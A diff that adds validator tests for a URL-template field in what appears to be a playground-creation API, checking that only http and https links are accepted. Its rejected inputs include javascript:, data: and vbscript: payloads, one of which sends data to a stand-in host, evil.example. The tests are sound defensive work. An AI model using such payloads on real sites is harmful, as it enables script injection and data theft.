@@ -117,6 +117,26 @@ describe('POST /realm/playgrounds', () => {
     expectInvalid(res, { url_template: ['Invalid URL template.'] });
   });
 
+  it.each([
+    'javascript:alert({code})',
+    'JavaScript:fetch("https://evil.example/?"+{code})',
+    'data:text/html,{code}',
+    'vbscript:{code}',
+    '//x.example/?code={code}',
+    '/run?code={code}',
+    '{+code}',
+    'ftp://x.example/{code}',
+    'https:x.example/{code}',
+  ])('refuses %s: links go to http or https only', async (template) => {
+    const res = await add('admin', playground({ url_template: template }));
+    expectInvalid(res, { url_template: ['Invalid URL template.'] });
+  });
+
+  it('accepts http as well as https, in any case', async () => {
+    await addOk(playground({ name: 'Plain', url_template: 'http://x.example/?code={code}' }));
+    await addOk(playground({ name: 'Shouty', url_template: 'HTTPS://x.example/?code={code}' }));
+  });
+
   it('requires the variable code, and only it', async () => {
     expectInvalid(await add('admin', playground({ url_template: 'https://x.example/{query}' })), {
       __all__: ['Missing the required variable "code" in the URL template'],
